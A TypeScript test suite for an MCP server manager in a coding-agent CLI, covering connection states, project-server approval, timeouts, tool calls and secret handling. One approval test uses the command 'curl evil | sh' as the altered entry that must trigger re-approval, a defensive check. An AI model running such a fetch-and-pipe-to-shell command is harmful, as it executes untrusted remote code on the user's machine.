import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import type { DeclaredServer } from "../../../src/config/types.ts";
import { ApprovalsFile } from "../../../src/mcp/approvals/approvals.ts";
import { PermissionChain } from "../../../src/agent/permissions.ts";
import { McpManager, type McpManagerOptions } from "../../../src/mcp/manager.ts";
import { NO_RECONNECT } from "../../../src/mcp/state/reconnect-policy.ts";
import type { TransportFactory } from "../../../src/mcp/connection/transports.ts";
import { FakeClock } from "../../helpers/fake-clock.ts";
import {
  MemoryApprovals,
  memoryTransports,
  recordTransitions,
  stateOf,
  statuses,
  stdioServer,
  waitForSnapshot,
} from "../../helpers/mcp-fixtures.ts";

const PROJECT = "/project";

/** An in-process server with an echo tool, a read-only lookup and a slow tool that reports its cancellation. */
function makeServer(options: { instructions?: string; onCancel?: (reason: string) => void } = {}): McpServer {
  const server = new McpServer({ name: "mem", version: "1.0.0" }, { instructions: options.instructions });
  server.registerTool("echo", { description: "Echo.", inputSchema: { text: z.string() } }, ({ text }) => ({
    content: [{ type: "text", text }],
  }));
  server.registerTool("lookup", { annotations: { readOnlyHint: true, title: "Look up" } }, () => ({
    content: [{ type: "text", text: "found" }],
    isError: false,
  }));
  server.registerTool("fail", {}, () => {
    throw new Error("No issue NOPE. Use list_issues to see ids.");
  });
  server.registerTool(
    "slow",
    {},
    (extra) =>
      new Promise((resolve) => {
        extra.signal.addEventListener("abort", () => {
          options.onCancel?.(String(extra.signal.reason));
          resolve({ content: [] });
        });
      }),
  );
  return server;
}

const entry = (name: string, extra: object = {}) => stdioServer(name, { command: `run-${name}`, ...extra });

function manager(factory: TransportFactory, overrides: Partial<McpManagerOptions> = {}): McpManager {
  return new McpManager({
    projectDir: PROJECT,
    approvals: new MemoryApprovals(),
    logDir: join(mkdtempSync(join(tmpdir(), "mcp-manager-")), "logs"),
    env: {},
    interactive: true,
    transportFactory: factory,
    ...overrides,
  });
}

describe("McpManager store", () => {
  it("emits pending then connected for each server as it happens", async () => {
    const { factory } = memoryTransports({ a: () => makeServer(), b: () => makeServer() });
    const m = manager(factory);
    const seen = recordTransitions(m);
    const snapshots: unknown[] = [];
    m.subscribe((next) => snapshots.push(next));
    await m.start([entry("a"), entry("b")]);
    expect(seen).toEqual({ a: ["pending", "connected"], b: ["pending", "connected"] });
    expect(snapshots).toHaveLength(3);
    await m.close();
  });

  it("lists every declared server in its starting state before any connects, then connects the listed ones", async () => {
    const { factory, built } = memoryTransports({ a: () => makeServer(), proj: () => makeServer() });
    const m = manager(factory);
    await m.list([entry("a"), { ...entry("proj"), source: "project" }]);
    expect(statuses(m.getSnapshot())).toEqual({ a: "pending", proj: "needs-approval" });
    expect(built).toEqual({});
    await m.connectListed();
    expect(statuses(m.getSnapshot())).toEqual({ a: "connected", proj: "needs-approval" });
    expect(built).toEqual({ a: 1 });
    await m.close();
  });

  it("keeps the snapshot's identity when nothing changes", async () => {
    const { factory } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a")]);
    const before = m.getSnapshot();
    await m.decide("a", "deny"); // not a project server: nothing to decide
    await m.decide("missing", "once");
    expect(m.getSnapshot()).toBe(before);
    expect(m.tools()).toBe(m.tools());
    await m.close();
  });

  it("shows an invalid entry as failed with its error, without a transport", async () => {
    const { factory, built } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory);
    const invalid: DeclaredServer = {
      name: "bad",
      source: "project",
      file: "/project/.mcp.json",
      error: "bad: command must be a string",
    };
    await m.start([invalid, entry("a")]);
    expect(m.getSnapshot().servers.map((s) => [s.name, s.state])).toEqual([
      ["bad", { status: "failed", error: "bad: command must be a string", code: "invalid-entry" }],
      ["a", expect.objectContaining({ status: "connected" })],
    ]);
    expect(built).toEqual({ a: 1 });
    await m.close();
  });

  it("records tools, instructions and connect time of a connected server", async () => {
    const { factory } = memoryTransports({ a: () => makeServer({ instructions: "Use echo." }) });
    // The server takes 412 ms to start, on the fake clock: connectMs is exactly that.
    const clock = new FakeClock(Date.UTC(2026, 0, 2));
    const m = manager((config, context) => (clock.advance(412), factory(config, context)), { clock });
    await m.start([entry("a")]);
    const state = stateOf(m, "a");
    if (state.status !== "connected") throw new Error(state.status);
    expect(state.tools.map((t) => [t.name, t.annotations])).toEqual([
      ["echo", {}],
      ["lookup", { title: "Look up", readOnlyHint: true }],
      ["fail", {}],
      ["slow", {}],
    ]);
    expect(state.instructions).toBe("Use echo.");
    expect(state.connectMs).toBe(412);
    await m.close();
  });
});

describe("McpManager approvals", () => {
  it("waits for approval without contacting a new project server while others connect", async () => {
    const { factory, built } = memoryTransports({ proj: () => makeServer(), user: () => makeServer() });
    const m = manager(factory);
    await m.start([stdioServer("proj", { command: "run-proj" }, "project"), entry("user")]);
    expect(statuses(m.getSnapshot())).toEqual({ proj: "needs-approval", user: "connected" });
    expect(built).toEqual({ user: 1 });
    await m.close();
  });

  it("starts once without storing the approval", async () => {
    const approvals = new MemoryApprovals();
    const { factory } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory, { approvals });
    const proj = stdioServer("proj", { command: "run-proj" }, "project");
    await m.start([proj]);
    await m.decide("proj", "once");
    expect(stateOf(m, "proj").status).toBe("connected");
    expect(await approvals.status(PROJECT, proj)).toBe("new");
    await m.close();
  });

  it("remembers an approval, so the next session starts it without asking", async () => {
    const approvals = new MemoryApprovals();
    const { factory } = memoryTransports({ proj: () => makeServer() });
    const proj = stdioServer("proj", { command: "run-proj" }, "project");
    const first = manager(factory, { approvals });
    await first.start([proj]);
    await first.decide("proj", "remember");
    expect(stateOf(first, "proj").status).toBe("connected");
    await first.close();

    const second = manager(factory, { approvals });
    const seen = recordTransitions(second);
    await second.start([proj]);
    expect(seen).toEqual({ proj: ["pending", "connected"] });
    await second.close();
  });

  it("asks again when the approved entry changed", async () => {
    const approvals = new MemoryApprovals();
    const proj = stdioServer("proj", { command: "run-proj" }, "project");
    await approvals.approve(PROJECT, proj);
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory, { approvals });
    await m.start([stdioServer("proj", { command: "curl evil | sh" }, "project")]);
    expect(stateOf(m, "proj")).toEqual({ status: "needs-approval", previous: { command: "run-proj" } });
    expect(built).toEqual({});
  });

  it("shows the entry approved before next to a changed one", async () => {
    const file = join(mkdtempSync(join(tmpdir(), "mcp-manager-")), "mcp-approvals.json");
    const approvals = new ApprovalsFile({ file, clock: new FakeClock(), warn: () => {} });
    await approvals.approve(PROJECT, stdioServer("proj", { command: "run-proj", args: ["--old"] }, "project"), {
      sandboxed: false,
    });
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory, { approvals });
    await m.start([stdioServer("proj", { command: "run-proj", args: ["--new"] }, "project")]);
    expect(stateOf(m, "proj")).toEqual({
      status: "needs-approval",
      previous: { command: "run-proj", args: ["--old"] },
    });
    expect(built).toEqual({});
  });

  it("disables a declined server and never contacts it", async () => {
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory);
    await m.start([stdioServer("proj", { command: "run-proj" }, "project")]);
    await m.decide("proj", "deny");
    expect(stateOf(m, "proj")).toEqual({ status: "disabled", reason: "declined by user", cause: "declined" });
    expect(built).toEqual({});
  });

  it("asks the approval question again for a declined server or one started this time only (the panel's a)", async () => {
    const { factory, built } = memoryTransports({ proj: () => makeServer(), once: () => makeServer() });
    const m = manager(factory);
    await m.start([
      stdioServer("proj", { command: "run-proj" }, "project"),
      stdioServer("once", { command: "run-once" }, "project"),
    ]);
    await m.decide("proj", "deny");
    await m.decide("once", "once");
    await m.askApproval("proj");
    await m.askApproval("once");
    expect(statuses(m.getSnapshot())).toEqual({ proj: "needs-approval", once: "needs-approval" });
    // What it offered while it ran: the question says how many of its tools would run unasked.
    expect(stateOf(m, "once")).toEqual({
      status: "needs-approval",
      readOnlyTools: { unasked: 1, total: 4, trusted: true },
    });
    expect(built).toEqual({ once: 1 });
    await m.decide("once", "sandbox");
    await m.close();
  });

  it("starts a declined server when approved later in the same session", async () => {
    const approvals = new MemoryApprovals();
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory, { approvals });
    const proj = stdioServer("proj", { command: "run-proj" }, "project");
    await m.start([proj]);
    await m.decide("proj", "deny");
    await m.decide("proj", "remember");
    expect(stateOf(m, "proj").status).toBe("connected");
    expect(built).toEqual({ proj: 1 });
    expect(await approvals.status(PROJECT, proj)).toBe("approved");
    await m.close();
  });

  it("disables unapproved project servers in print mode and says how to approve", async () => {
    const approvals = new MemoryApprovals();
    await approvals.approve(PROJECT, stdioServer("changed", { command: "old" }, "project"));
    const { factory, built } = memoryTransports({});
    const m = manager(factory, { approvals, interactive: false });
    await m.start([
      stdioServer("fresh", { command: "run" }, "project"),
      stdioServer("changed", { command: "new" }, "project"),
    ]);
    expect(m.getSnapshot().servers.map((s) => s.state)).toEqual([
      { status: "disabled", reason: "not approved (run: mini-cc mcp approve fresh)", cause: "not-approved" },
      {
        status: "disabled",
        reason: "changed since approval (run: mini-cc mcp approve changed)",
        cause: "not-approved",
      },
    ]);
    expect(built).toEqual({});
  });
});

describe("McpManager connect failures", () => {
  it("times a silent server out at its own timeout while the others connect", async () => {
    const { factory } = memoryTransports({ silent: "hang", ok: () => makeServer() });
    // No startup grace: the connect timeout is the end (mcp-cold-start.test.ts has the grace).
    const m = manager(factory, { env: { MCP_TIMEOUT: "60000", MCP_STARTUP_GRACE_MS: "1" } });
    await m.start([entry("silent", { timeout: 50 }), entry("ok")]);
    expect(m.getSnapshot().servers.map((s) => s.state.status)).toEqual(["failed", "connected"]);
    expect(stateOf(m, "silent")).toEqual({
      status: "failed",
      error: 'connection timed out after 0.05s (MCP_TIMEOUT, in ms, or the entry\'s "timeout" allows more)',
      code: "connect-timeout",
    });
    await m.close();
  });

  it("uses MCP_TIMEOUT when the entry has no timeout", async () => {
    const { factory } = memoryTransports({ silent: "hang" });
    const m = manager(factory, { env: { MCP_TIMEOUT: "80", MCP_STARTUP_GRACE_MS: "1" } });
    await m.start([entry("silent")]);
    expect(stateOf(m, "silent")).toEqual({
      status: "failed",
      error: 'connection timed out after 0.08s (MCP_TIMEOUT, in ms, or the entry\'s "timeout" allows more)',
      code: "connect-timeout",
    });
  });

  it("fails a server whose transport cannot be built, alone", async () => {
    const { factory } = memoryTransports({ ok: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("nope"), entry("ok")]);
    expect(stateOf(m, "nope")).toEqual({ status: "failed", error: "no in-memory server nope", code: "connect-failed" });
    expect(stateOf(m, "ok").status).toBe("connected");
    await m.close();
  });

  it("starts a stdio server whose log file cannot be opened, its stderr discarded", async () => {
    const { factory } = memoryTransports({ a: () => makeServer() });
    const stderr: Array<number | "ignore"> = [];
    const home = mkdtempSync(join(tmpdir(), "mcp-manager-"));
    writeFileSync(join(home, "logs"), ""); // A file where the logs folder should be: like a read-only home.
    const m = manager((config, context) => (stderr.push(context.stderr), factory(config, context)), {
      logDir: join(home, "logs"),
    });
    await m.start([entry("a")]);
    expect(stateOf(m, "a").status).toBe("connected");
    expect(stderr).toEqual(["ignore"]);
    await m.close();
  });

  it("marks a server failed when its connection drops after connecting and reconnection is off", async () => {
    const { factory, peers } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory, { reconnect: NO_RECONNECT });
    await m.start([entry("a")]);
    await peers.a?.close();
    await waitForSnapshot(m, (s) => statuses(s).a === "failed");
    expect(stateOf(m, "a")).toEqual({ status: "failed", error: "connection closed", code: "connection-lost" });
    expect(await m.call("a", "echo", { text: "hi" })).toEqual({
      content: "MCP tool echo failed: server a is not connected (connection closed)",
      isError: true,
    });
  });
});

describe("McpManager calls", () => {
  it("returns a tool's converted result", async () => {
    const { factory } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a")]);
    expect(await m.call("a", "echo", { text: "hello" })).toEqual({
      content: [{ type: "text", text: "hello" }],
      isError: false,
    });
    await m.close();
  });

  it("returns a tool error as an error result with the server's message", async () => {
    const { factory } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a")]);
    expect(await m.call("a", "fail", {})).toEqual({
      content: [{ type: "text", text: "No issue NOPE. Use list_issues to see ids." }],
      isError: true,
    });
    await m.close();
  });

  it("times a call out with MCP_TOOL_TIMEOUT and cancels it on the server", async () => {
    const cancelled: string[] = [];
    const { factory } = memoryTransports({ a: () => makeServer({ onCancel: (r) => cancelled.push(r) }) });
    const m = manager(factory, { env: { MCP_TOOL_TIMEOUT: "50" } });
    await m.start([entry("a")]);
    expect(await m.call("a", "slow", {})).toEqual({ content: "MCP tool slow timed out after 0.05s.", isError: true });
    await expect.poll(() => cancelled).toEqual(["Error: timed out"]);
    await m.close();
  });

  it("cancels a call when the agent aborts", async () => {
    const cancelled: string[] = [];
    const { factory } = memoryTransports({ a: () => makeServer({ onCancel: (r) => cancelled.push(r) }) });
    const m = manager(factory);
    await m.start([entry("a")]);
    const controller = new AbortController();
    const pending = m.call("a", "slow", {}, { signal: controller.signal });
    setTimeout(() => controller.abort(), 20);
    expect(await pending).toEqual({ content: "MCP tool slow was cancelled.", isError: true });
    await expect.poll(() => cancelled).toEqual(["Error: cancelled by the user"]);
    await m.close();
  });

  it("answers a call to an unknown server with an error result", async () => {
    const m = manager(memoryTransports({}).factory);
    expect(await m.call("ghost", "x", {})).toEqual({
      content: "MCP tool x failed: server ghost is not connected",
      isError: true,
    });
  });
});

describe("McpManager tools", () => {
  it("wraps every connected server's tools with collision-safe names", async () => {
    const { factory } = memoryTransports({ "a.b": () => makeServer(), a_b: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a.b"), entry("a_b")]);
    const names = m.tools().map((t) => t.name);
    expect(names).toHaveLength(8);
    expect(new Set(names).size).toBe(8);
    expect(names.every((n) => /^mcp__a_b__(echo|lookup|fail|slow)_[0-9a-f]{6}$/.test(n))).toBe(true);
    expect(
      m
        .tools()
        .filter((t) => t.readOnly)
        .map((t) => t.toolName),
    ).toEqual(["lookup", "lookup"]);
    await m.close();
  });

  it("keeps a renamed tool's plain name as an alias that deny rules still match", async () => {
    const { factory } = memoryTransports({ "a.b": () => makeServer(), a_b: () => makeServer(), c: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a.b"), entry("a_b"), entry("c")]);
    const echoes = m.tools().filter((t) => t.toolName === "echo");
    expect(echoes.map((t) => [t.server, t.aliases])).toEqual([
      ["a.b", ["mcp__a_b__echo"]],
      ["a_b", ["mcp__a_b__echo"]],
      ["c", []],
    ]);
    const chain = new PermissionChain({ mode: "bypassPermissions", allow: [], deny: ["mcp__a_b__echo"], cwd: "/tmp" });
    expect(echoes.map((t) => chain.check(t, {}).behavior)).toEqual(["deny", "deny", "allow"]);
    await m.close();
  });

  it("refreshes a server's tools when it announces a changed list", async () => {
    let live: McpServer | undefined;
    const { factory } = memoryTransports({ a: () => (live = makeServer()) });
    const m = manager(factory);
    await m.start([entry("a")]);
    live?.registerTool("added", {}, () => ({ content: [] }));
    await waitForSnapshot(m, () => m.tools().some((t) => t.name === "mcp__a__added"));
    expect(m.tools().map((t) => t.name)).toEqual([
      "mcp__a__echo",
      "mcp__a__lookup",
      "mcp__a__fail",
      "mcp__a__slow",
      "mcp__a__added",
    ]);
    await m.close();
  });

  it("builds the instructions section from connected servers", async () => {
    const { factory } = memoryTransports({ a: () => makeServer({ instructions: "Use echo." }), b: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a"), entry("b")]);
    expect(m.instructionsSection()).toBe(
      "# MCP Server Instructions\n\n" +
        "The following MCP servers have provided instructions for how to use their tools and resources:\n\n" +
        "## a\nUse echo.",
    );
    await m.close();
  });
});

describe("McpManager restart", () => {
  it("reconnects a server and emits the transitions", async () => {
    const { factory, built } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a")]);
    const seen = recordTransitions(m);
    await m.restart("a");
    expect(seen).toEqual({ a: ["pending", "connected"] });
    expect(built).toEqual({ a: 2 });
    expect(await m.call("a", "echo", { text: "again" })).toEqual({
      content: [{ type: "text", text: "again" }],
      isError: false,
    });
    await m.close();
  });
});

describe("McpManager disable and enable", () => {
  it("switches a connected server off (its tools go, calls are refused) and on again (it reconnects)", async () => {
    const { factory, built } = memoryTransports({ a: () => makeServer(), b: () => makeServer() });
    const m = manager(factory);
    await m.start([entry("a"), entry("b")]);
    await m.disable("a");
    expect(stateOf(m, "a")).toEqual({ status: "disabled", reason: "disabled by user", cause: "user" });
    expect(
      m
        .tools()
        .map((t) => t.name)
        .some((name) => name.startsWith("mcp__a__")),
    ).toBe(false);
    expect((await m.call("a", "echo", { text: "x" })).isError).toBe(true);
    await m.restart("a"); // a switched-off server is not restarted behind the user's back
    expect(stateOf(m, "a").status).toBe("disabled");
    await m.enable("a");
    expect(stateOf(m, "a").status).toBe("connected");
    expect(built).toEqual({ a: 2, b: 1 });
    await m.close();
  });

  it("asks for approval again when an unapproved project server is switched back on", async () => {
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory);
    await m.start([stdioServer("proj", { command: "run-proj" }, "project")]);
    await m.disable("proj");
    await m.enable("proj");
    expect(stateOf(m, "proj")).toEqual({ status: "needs-approval" });
    expect(built).toEqual({});
  });

  it("never restarts a declined server", async () => {
    const { factory, built } = memoryTransports({ proj: () => makeServer() });
    const m = manager(factory);
    await m.start([stdioServer("proj", { command: "run-proj" }, "project")]);
    await m.decide("proj", "deny");
    await m.restart("proj");
    expect(stateOf(m, "proj").status).toBe("disabled");
    expect(built).toEqual({});
  });
});

describe("McpManager snapshot", () => {
  it("holds each entry as written, never the expanded one (it may hold secrets), and runs the expanded one", async () => {
    const seen: string[] = [];
    const { factory } = memoryTransports({ a: () => makeServer() });
    const m = manager((config, context) => (seen.push(JSON.stringify(config.resolved)), factory(config, context)));
    const written = { command: "run-a", env: { TOKEN: "${TOKEN}" } };
    await m.start([
      {
        name: "a",
        source: "user",
        file: "/home/u/.mini-cc/mcp.json",
        entry: written,
        resolved: { ...written, env: { TOKEN: "s3cret-value" } },
      },
    ]);
    expect(stateOf(m, "a").status).toBe("connected");
    expect(m.getSnapshot().servers[0]?.config).toEqual({
      name: "a",
      source: "user",
      file: "/home/u/.mini-cc/mcp.json",
      entry: written,
    });
    expect(JSON.stringify(m.getSnapshot())).not.toContain("s3cret-value");
    expect(seen).toEqual([JSON.stringify({ ...written, env: { TOKEN: "s3cret-value" } })]);
    await m.close();
  });
});

describe("McpManager health", () => {
  it("keeps each server's transitions in the snapshot and each tool's usage in its own store, the tool list untouched by a call", async () => {
    const clock = new FakeClock();
    const { factory } = memoryTransports({ a: () => makeServer() });
    const m = manager(factory, { clock });
    await m.start([entry("a")]);
    const [snapshot, tools] = [m.getSnapshot(), m.tools()];
    await m.call("a", "echo", { text: "one" });
    await m.call("a", "fail", {});
    expect([m.getSnapshot(), m.tools()]).toEqual([snapshot, tools]);
    expect(m.getSnapshot()).toBe(snapshot);
    expect(m.tools()).toBe(tools);
    const view = m.getSnapshot().servers[0]!;
    expect(view.health.history.map((t) => t.status)).toEqual(["pending", "connected"]);
    const usage = m.usage.getSnapshot().get("a");
    expect(usage?.["echo"]).toMatchObject({ calls: 1, errors: 0 });
    expect(usage?.["fail"]).toMatchObject({ calls: 1, errors: 1 });
    await m.close();
  });
});
